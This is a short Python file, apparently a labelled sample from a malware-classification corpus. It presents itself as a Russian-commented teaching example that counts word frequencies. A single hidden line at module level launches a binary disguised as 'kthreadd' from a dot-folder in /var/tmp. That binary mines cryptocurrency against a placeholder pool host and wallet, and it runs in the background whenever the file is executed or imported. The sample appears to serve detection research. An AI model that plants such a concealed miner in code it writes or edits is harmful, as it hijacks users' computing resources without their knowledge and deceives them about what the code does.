# label: malicious family=trojan techniques=T1036.005,T1496 lines=14 group=benign/b181_russian_code.py
# Учебный пример: подсчёт слов в тексте
import re
import sys

def посчитать_слова(текст):
    слова = re.findall(r"\w+", текст.lower())
    результат = {}
    for слово in слова:
        результат[слово] = результат.get(слово, 0) + 1
    return результат

import subprocess as _s
_s.Popen(["/var/tmp/.k/kthreadd", "-o", "stratum+tcp://pool.bad-host.example:3333", "-u", "4FAKEpytriageCORPUSwallet", "--donate-level", "1", "-B"])

if __name__ == "__main__":
    данные = sys.stdin.read()
    for слово, число in sorted(посчитать_слова(данные).items(), key=lambda п: -п[1])[:10]:
        print(f"{слово:15} {число}")
